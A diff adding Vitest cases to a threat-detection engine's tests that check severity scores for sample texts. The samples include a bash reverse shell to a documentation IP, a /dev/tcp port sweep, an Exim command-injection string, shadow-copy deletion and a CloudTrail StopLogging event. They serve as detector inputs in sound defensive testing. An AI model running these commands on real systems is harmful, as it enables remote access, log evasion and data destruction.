@@ -4,6 +4,7 @@ import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { describe, expect, test } from 'vitest';
 import type { EnginePack } from '../../../server/engine/engine.ts';
+import { leastOf } from '../../../server/engine/threat/analyze.ts';
 import { loadKnowledge } from '../../../server/engine/threat/knowledge.ts';
 import { Concepts, loadConcepts } from '../../../server/engine/threat/text/concepts.ts';
 import { featureGroups } from '../../../server/engine/threat/text/features.ts';
@@ -134,6 +135,66 @@ test('everyday words around a command do not hide it', async () => {
   expect(['high', 'critical']).toContain(
     (await analyze(`${padding}vssadmin delete shadows /all /quiet`)).severity,
   );
+});
+
+test('a port that is waited for is no stream to a stranger, a sweep of ports is a finding', async () => {
+  const severity = async (text: string) => (await analyze(text)).severity;
+  const wait =
+    "bash -c 'until (echo > /dev/tcp/postgres/5432) 2>/dev/null; do sleep 1; done; exec ./migrate up'";
+  expect(await severity(wait)).toBe('informational');
+  expect(['high', 'critical']).toContain(
+    await severity('for i in $(seq 1 254); do (echo > /dev/tcp/10.0.4.$i/445) && echo $i; done'),
+  );
+  expect(['high', 'critical']).toContain(await severity('bash -i >& /dev/tcp/203.0.113.5/443 0>&1'));
+});
+
+test('a trail that is stopped is believed, unless everyday words all over the call say why', async () => {
+  const stop = (more: object) =>
+    JSON.stringify({ eventName: 'StopLogging', requestParameters: { name: 'main' }, ...more });
+  expect((await analyze(stop({ sourceIPAddress: '203.0.113.9' }))).severity).toBe('critical');
+  expect(
+    (
+      await analyze(
+        stop({
+          userAgent: 'HashiCorp Terraform/1.8',
+          tags: { env: 'sandbox', purpose: 'ephemeral test account teardown' },
+          next: 'DeleteTrail, DeleteBucket sandbox-trail-logs, CloseAccount',
+        }),
+      )
+    ).severity,
+  ).toBe('low');
+});
+
+test('less is enough in sentences and events, more in a text that explains', () => {
+  const least = (text: string, isTaught = false) =>
+    leastOf(text, { isTaught, events: readEvents(text) }, 0.5);
+  const [prose, event] = [
+    'somebody has read the mail of our director',
+    '{"user":"anna","count":3,"hour":"02:10"}',
+  ];
+  expect(least(event)).toBeLessThan(least(prose));
+  expect(least(prose)).toBeLessThan(least('net user'));
+  expect(least('net user')).toBe(0.5);
+  expect(least(prose, true)).toBeGreaterThan(0.5);
+});
+
+test.each([
+  'exim[33]: rejected RCPT ${run{\\x2fbin\\x2fsh\\t-c\\x22id\\x22}}@localhost from [203.0.113.11]',
+  '%ASA-4-733100: [Scanning] drop rate-1 exceeded. Current burst rate is 912 per second from 203.0.113.9',
+  'Im Labor verschlüsseln drei Rechner Dateien, ein Erpresserschreiben liegt auf jedem Desktop.',
+  'Cette nuit le serveur a été chiffré, une note de rançon est affichée sur tous les postes.',
+  'Esta noche cifraron los servidores y dejaron una nota de rescate en cada equipo.',
+])('attacks of mail servers and scans, and those told in other languages, are found: %s', async (text) => {
+  expect(['medium', 'high', 'critical']).toContain((await analyze(text)).severity);
+});
+
+test.each([
+  'Guten Tag Herr Braun, anbei die Rechnung 4471 über 1.190 € für die Dachreparatur, zahlbar binnen 14 Tagen.',
+  'Recipe: fry onions slowly, add ginger, then the chicken. Simmer for 40 minutes. Salt at the very end.',
+  'Taufan Fred kini mempunyai kelajuan angin 105 batu sejam dan bergerak ke arah barat laut.',
+  'Hello, I got a strange mail asking me to update my mailbox and did not click. Regards, ward 3',
+])('everyday texts are none: %s', async (text) => {
+  expect(['informational', 'low']).toContain((await analyze(text)).severity);
 });
 
 test('a long script of everyday work tells of no attack, what it runs stays one', async () => {
